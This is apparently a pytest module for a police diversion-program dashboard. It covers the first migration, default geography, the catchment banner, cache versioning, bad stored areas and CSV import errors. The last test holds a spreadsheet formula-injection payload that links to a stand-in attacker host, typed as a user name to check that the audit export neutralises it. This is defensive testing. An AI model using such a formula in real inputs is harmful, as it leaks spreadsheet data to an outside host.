"""Issue 17 on a fresh database holding only the real BPD export: the default geography
installed by the first migrate, the banner for days without a catchment, cached results
keyed by the data version, pages that no stored area can break.

The module's database is created empty, migrated by ``python -m db.migrate`` and loaded
by ``python -m ingest contacts ../shared/data/bpd_arrests_2017.csv --format bpd-arrests``,
as an operator would do it, once per session (test_health_under_load starts from the same
state: each module gets its own copy). Expected figures come from the files themselves (shapely over
the committed catchment and the export's coordinates), not from the code under test.
"""

import csv
import functools
import io
import os
import subprocess
import sys
from datetime import date, timedelta

import geopandas as gpd
import psycopg2
import pytest
import shapely
from psycopg2 import sql
from psycopg2.extensions import parse_dsn

from accounts.store import verify
from dashboard.audit import export_csv
from dashboard.audit_log.data import search
from dashboard.pagelist import PAGE_SPECS
from db.connect import connect
from geo.places import CATCHMENT_FILE
from ingest.defaults import install_if_absent
from program import clock
from program.access import User
from tests.conftest import SCRATCH_SUFFIX, _scratch_dsn, app_login, configured_dsn
from tests.support.pages import ROOT, dashboard

BPD_FILE = ROOT.parent / "shared" / "data" / "bpd_arrests_2017.csv"
ADMIN = {"username": "first.admin", "role": "admin"}
COMMAND = {"username": "first.command", "role": "command"}
MIGRATED = {}  # what the first migrate printed


def cli(url: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "DATABASE_URL": url}
    env.pop("DATABASE_OWNER_URL", None)
    return subprocess.run(
        [sys.executable, "-m", *args], cwd=ROOT, env=env, capture_output=True, text=True
    )


def fetch(url: str, statement: str, params=()) -> list[tuple]:
    conn = connect(url)
    try:
        with conn.cursor() as cur:
            cur.execute(statement, params)
            rows = cur.fetchall() if cur.description else []
        conn.commit()
        return rows
    finally:
        conn.close()


def create_database(suffix: str, template: str | None = None) -> str:
    """Drop and create ``<db><suffix>``, empty or a copy of the database ``template``
    with its settings too (a migration sets ``jit``; CREATE DATABASE copies no settings)."""
    url = _scratch_dsn(configured_dsn(), SCRATCH_SUFFIX + suffix)
    admin = psycopg2.connect(configured_dsn())
    admin.autocommit = True
    name = sql.Identifier(parse_dsn(url)["dbname"])
    with admin.cursor() as cur:
        cur.execute(sql.SQL("DROP DATABASE IF EXISTS {} WITH (FORCE)").format(name))
        if template is None:
            cur.execute(sql.SQL("CREATE DATABASE {}").format(name))
        else:
            cur.execute(
                sql.SQL("CREATE DATABASE {} TEMPLATE {}").format(name, sql.Identifier(template))
            )
            cur.execute(
                "SELECT unnest(s.setconfig) FROM pg_db_role_setting s"
                " JOIN pg_database d ON d.oid = s.setdatabase"
                " WHERE d.datname = %s AND s.setrole = 0",
                (template,),
            )
            for (setting,) in cur.fetchall():
                key, value = setting.split("=", 1)
                cur.execute(
                    sql.SQL("ALTER DATABASE {} SET {} = {}").format(
                        name, sql.Identifier(key), sql.Literal(value)
                    )
                )
    admin.close()
    return url


@functools.cache
def migrated_bpd_export() -> tuple[str, str]:
    """Built once per test session: a new, empty database migrated and loaded with the real
    BPD export through the command line (left untouched: only copied); its name and the
    first migrate's output."""
    url = create_database("_bpd")
    migrated = cli(url, "db.migrate")
    assert migrated.returncode == 0, migrated.stderr
    loaded = cli(url, "ingest", "contacts", str(BPD_FILE), "--format", "bpd-arrests")
    assert loaded.returncode in (0, 1), loaded.stderr  # 1: rows without coordinates
    return parse_dsn(url)["dbname"], migrated.stdout


def fresh_database(suffix: str) -> tuple[str, str]:
    """A database ``<db><suffix>`` of its own as a new, empty database is after its first
    migrate and the real BPD export's import through the command line (a copy of
    :func:`migrated_bpd_export`'s, which pays for them once); its owner URL and the first
    migrate's output."""
    template, migrated = migrated_bpd_export()
    return create_database(suffix, template), migrated


@pytest.fixture(scope="module")
def fresh() -> str:
    """A new, empty database, migrated and loaded through the command line."""
    url, MIGRATED["stdout"] = fresh_database("_first")
    return url


@pytest.fixture
def on_fresh(fresh, monkeypatch):
    """The dashboard under test on the fresh database, with the dashboard's own login;
    returns the owner's URL (the command line's)."""
    monkeypatch.setenv("DATABASE_URL", app_login(fresh))
    monkeypatch.delenv("DATABASE_OWNER_URL", raising=False)
    return fresh


def run_page(user: dict, page: str | None = None, preset: str = "Pilot to date"):
    at = dashboard(user, page)
    at.session_state["filter_preset"] = preset
    at.run()
    assert not at.exception, at.exception
    return at


def metric(at, label: str) -> str:
    (value,) = [m.value for m in at.metric if m.label == label]
    return value


def loaded_points(url: str, offenses=("drug", "prostitution")) -> gpd.GeoSeries:
    """The contacts the import stored (the page's default offences), as shapely points."""
    rows = fetch(
        url,
        "SELECT ST_X(geom), ST_Y(geom) FROM contact WHERE offense = ANY(%s)",
        (list(offenses),),
    )
    return gpd.GeoSeries(gpd.points_from_xy(*zip(*rows, strict=True)), crs=4326)


# --- the default geography ------------------------------------------------------------------


def test_the_first_migrate_installs_the_default_geography_marked_approximate(fresh):
    assert "installed the default program geography" in MIGRATED["stdout"]
    kinds = dict(
        fetch(fresh, "SELECT kind, count(*) FROM program_area WHERE is_approximation GROUP BY 1")
    )
    assert kinds == {"catchment": 1, "city": 1, "district": 1, "sector": 4, "post": 12}
    assert fetch(fresh, "SELECT count(*) FROM program_area WHERE NOT is_approximation") == [(0,)]
    ((wkb,),) = fetch(fresh, "SELECT ST_AsBinary(geom) FROM program_area WHERE kind = 'catchment'")
    stored = shapely.from_wkb(bytes(wkb))
    committed = gpd.read_file(CATCHMENT_FILE).union_all()
    assert stored.symmetric_difference(committed).area < 1e-9 * committed.area + 1e-12
    again = cli(fresh, "db.migrate")
    assert again.stdout == "migrate: schema is up to date\n"


def test_inside_the_catchment_counts_the_real_contacts_in_the_default_catchment(on_fresh):
    at = run_page(ADMIN, "contacts/page.py")
    catchment = gpd.read_file(CATCHMENT_FILE).union_all()
    inside = int(loaded_points(on_fresh).within(catchment).sum())
    assert inside > 100  # the market area: the figure the issue saw as 0
    assert metric(at, "Inside the catchment") == f"{inside:,}"
    assert not [w for w in at.warning if "No LEAD catchment" in w.value]


def test_installing_never_touches_imported_areas(db, tmp_path):
    example = ROOT / "docs" / "examples" / "catchment.geojson"
    done = cli(
        os.environ["DATABASE_URL"], "ingest", "areas", str(example), "--area-kind", "catchment"
    )
    assert done.returncode == 0, done.stderr
    before = fetch(os.environ["DATABASE_URL"], "SELECT area_id, row_hash FROM program_area")
    assert install_if_absent(db) == []
    assert fetch(os.environ["DATABASE_URL"], "SELECT area_id, row_hash FROM program_area") == before
    with db.cursor() as cur:
        cur.execute("DELETE FROM program_area")
    db.commit()
    assert install_if_absent(db) != []
    kinds = fetch(os.environ["DATABASE_URL"], "SELECT DISTINCT kind FROM program_area")
    assert {k for (k,) in kinds} == {"catchment", "city", "district", "sector", "post"}


# --- the banner -----------------------------------------------------------------------------


def test_a_banner_says_on_which_days_no_catchment_is_in_force(on_fresh):
    as_of = fetch(on_fresh, "SELECT max(occurred_at)::date, min(occurred_at)::date FROM contact")
    (last, first), closed = as_of[0], date(2017, 7, 1)
    fetch(on_fresh, "UPDATE program_area SET valid_to = %s WHERE kind = 'catchment'", (closed,))
    try:
        at = run_page(COMMAND)
        (banner,) = [w.value for w in at.warning if "No LEAD catchment" in w.value]
        days = (last - closed).days + 1
        assert f"on {days} of the {(last - first).days + 1} days" in banner
        assert f"{closed:%d %b %Y} and {last:%d %b %Y}" in banner
        at = run_page(COMMAND, preset="Last 30 days")
        assert any("No LEAD catchment is in force on any day" in w.value for w in at.warning)
    finally:
        fetch(on_fresh, "UPDATE program_area SET valid_to = NULL WHERE kind = 'catchment'")
    at = run_page(COMMAND)
    assert not [w for w in at.warning if "No LEAD catchment" in w.value]


# --- the data version -----------------------------------------------------------------------


VERSION = "SELECT sum(version) FROM data_version"


def test_the_data_version_moves_with_committed_writes_only(on_fresh):
    conn = connect(on_fresh)
    try:
        before = fetch(on_fresh, VERSION)
        with conn.cursor() as cur:
            cur.execute("SET ROLE lead_admin")
            cur.execute(
                "INSERT INTO program_setting (key, effective_from, value) "
                "VALUES ('capacity', DATE '2030-01-01', 70)"
            )
        assert fetch(on_fresh, VERSION) == before  # not committed: not visible
        conn.rollback()
        assert fetch(on_fresh, VERSION) == before
        with conn.cursor() as cur:
            cur.execute("SET ROLE lead_command")
            cur.execute(
                "INSERT INTO audit_log (actor, role, action, outcome) "
                "VALUES ('first.command', 'command', 'page_view', 'ok')"
            )
        conn.commit()
        assert fetch(on_fresh, VERSION) == before  # a page view changes no figure
        with conn.cursor() as cur:
            cur.execute("SET ROLE lead_admin")
            cur.execute(
                "INSERT INTO program_setting (key, effective_from, value) "
                "VALUES ('capacity', DATE '2030-01-01', 70)"
            )
            cur.execute(
                "UPDATE program_setting SET value = 71 WHERE effective_from = DATE '2030-01-01'"
            )
        conn.commit()
        assert fetch(on_fresh, VERSION)[0][0] == before[0][0] + 2  # one per statement
    finally:
        conn.close()
        fetch(on_fresh, "DELETE FROM program_setting WHERE effective_from = DATE '2030-01-01'")


def test_the_next_page_run_after_a_cli_import_is_current(on_fresh, tmp_path):
    at = run_page(COMMAND, "contacts/page.py")
    before = metric(at, "Inside the catchment")
    count = int(before.replace(",", ""))
    path = tmp_path / "contacts.csv"
    path.write_text(
        "contact_id,occurred_at,latitude,longitude,offense,pathway,decision,officer_id,person_key\n"
        + "".join(
            f"first-run-{n},2017-08-0{n}T12:00:00,39.29189,-76.62175,drug,arrest,diverted,,\n"
            for n in range(1, 4)
        )
    )
    done = cli(on_fresh, "ingest", "contacts", str(path))
    assert done.returncode == 0, done.stderr
    try:
        at.run()  # the same session, well within the cache's time limit
        assert not at.exception
        assert metric(at, "Inside the catchment") == f"{count + 3:,}"
    finally:
        fetch(on_fresh, "DELETE FROM contact WHERE contact_id LIKE 'first-run-%%'")


# --- no area can make a page fail ------------------------------------------------------------

BAD_AREAS = {
    "empty catchment": ("catchment", "MULTIPOLYGON EMPTY"),
    "whole-world catchment": (
        "catchment",
        "MULTIPOLYGON(((-180 -90, 180 -90, 180 90, -180 90, -180 -90)))",
    ),
    "post in the Indian Ocean": (
        "post",
        "MULTIPOLYGON(((70 -20, 75 -20, 75 -15, 70 -15, 70 -20)))",
    ),
    "projected coordinates read as degrees": (
        "district",
        "MULTIPOLYGON(((-776 939, -700 939, -700 990, -776 990, -776 939)))",
    ),
    "sliver catchment": (
        "catchment",
        "MULTIPOLYGON(((-76.62 39.29, -76.61999999 39.29, -76.62 39.29000001, -76.62 39.29)))",
    ),
}
INSERT_AREA = (
    "INSERT INTO program_area (kind, name, source, is_approximation, geom, row_hash) "
    "VALUES (%s, %s, 'stored before the importer checked areas', false, "
    "ST_GeomFromText(%s, 4326), 'x')"
)
BOW_TIE = "MULTIPOLYGON(((-76.63 39.28, -76.61 39.30, -76.61 39.28, -76.63 39.30, -76.63 39.28)))"


@pytest.fixture
def bad_areas(on_fresh):
    """The areas above stored directly by the owner, and a self-intersecting catchment
    (which the table's CHECK refuses today, so it is stored with the check lifted, as an
    older schema might hold it)."""
    rows = [(kind, f"bad: {label}", wkt) for label, (kind, wkt) in BAD_AREAS.items()]
    conn = connect(on_fresh)
    with conn.cursor() as cur:
        for row in rows:
            cur.execute(INSERT_AREA, row)
        cur.execute("ALTER TABLE program_area DROP CONSTRAINT program_area_geom_check")
        cur.execute(INSERT_AREA, ("catchment", "bad: bow tie", BOW_TIE))
    conn.commit()
    yield on_fresh
    with conn.cursor() as cur:
        cur.execute("DELETE FROM program_area WHERE name LIKE 'bad: %%'")
        cur.execute("ALTER TABLE program_area ADD CHECK (ST_IsValid(geom))")
    conn.commit()
    conn.close()


@pytest.mark.parametrize("page", [file for file, _title, _roles in PAGE_SPECS])
def test_no_stored_area_makes_a_page_fail(bad_areas, page):
    roles = {file: roles for file, _title, roles in PAGE_SPECS}[page]
    for user in (ADMIN, COMMAND):
        if user["role"] in roles:
            at = run_page(user, page)
            assert any("Data as of" in c.value for c in at.caption)


def test_empty_or_invalid_catchments_count_as_none_for_the_banner(bad_areas):
    kept = ("bad: empty catchment", "bad: sliver catchment")  # nothing left once repaired
    closing = "UPDATE program_area SET valid_to = %s WHERE kind = 'catchment' AND name <> ALL(%s)"
    fetch(bad_areas, closing, (date(1900, 1, 2), list(kept)))
    try:
        at = run_page(COMMAND, preset="Last 30 days")
        assert any("No LEAD catchment is in force on any day" in w.value for w in at.warning)
    finally:
        fetch(bad_areas, closing, (None, list(kept)))


# --- broken files and exports on the real data ----------------------------------------------

STATE = (
    "SELECT (SELECT count(*) FROM contact), (SELECT count(*) FROM import_batch), "
    "(SELECT sum(version) FROM data_version)"
)


def bpd_head(rows: int) -> list[str]:
    """The export's header and first ``rows`` rows, as lines."""
    with open(BPD_FILE, newline="") as file:
        return [next(file) for _ in range(rows + 1)]


def test_a_20_mib_value_in_the_export_exits_2_with_a_plain_reason(fresh, tmp_path):
    lines = bpd_head(300)
    lines[2] = lines[2].replace(",Unknown Offense,", "," + "U" * 20 * 2**20 + ",", 1)
    path = tmp_path / "bpd_huge.csv"
    path.write_text("".join(lines))
    before = fetch(fresh, STATE)
    done = cli(fresh, "ingest", "contacts", str(path), "--format", "bpd-arrests")
    assert done.returncode == 2, done.stderr[:500]
    assert done.stderr.startswith("ingest: bpd_huge.csv, line 3: a value is longer than")
    assert "Traceback" not in done.stderr and len(done.stderr) < 500
    assert fetch(fresh, STATE) == before  # nothing loaded, no batch, same data version


def test_an_unclosed_quote_in_the_export_is_one_rejected_row_with_its_reason(fresh, tmp_path):
    lines = bpd_head(300)
    assert lines[1].endswith(')"\r\n') or lines[1].endswith(')"\n')
    lines[1] = lines[1].replace(')"', ")", 1)  # "Location 1" opens a quote, never closed
    path = tmp_path / "bpd_quote.csv"
    path.write_text("".join(lines))
    done = cli(fresh, "ingest", "contacts", str(path), "--format", "bpd-arrests", "--dry-run")
    assert done.returncode == 1, done.stderr[:500]
    output = done.stdout + done.stderr
    assert "holds whole rows: is a quote unbalanced?" in output
    assert "Traceback" not in output


def test_the_audit_log_export_neutralises_a_formula_typed_as_a_user_name(on_fresh):
    """Anyone at the sign-in form can put a formula in the audit log; an admin's export
    of the log must not hand it to a spreadsheet."""
    formula = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
    conn = connect(on_fresh)
    try:
        assert not verify(conn, formula, "wrong password").ok
    finally:
        conn.close()
    admin = User(ADMIN["username"], ADMIN["role"])
    today = clock.today()
    table = search(admin, start=today - timedelta(days=1), end=today, actor="hyperlink").drop(
        columns="matched"
    )
    assert formula in table.actor.tolist()
    text = export_csv(table, user=admin, period="today").decode()
    cells = {cell for line in csv.reader(io.StringIO(text)) for cell in line}
    assert "'" + formula in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
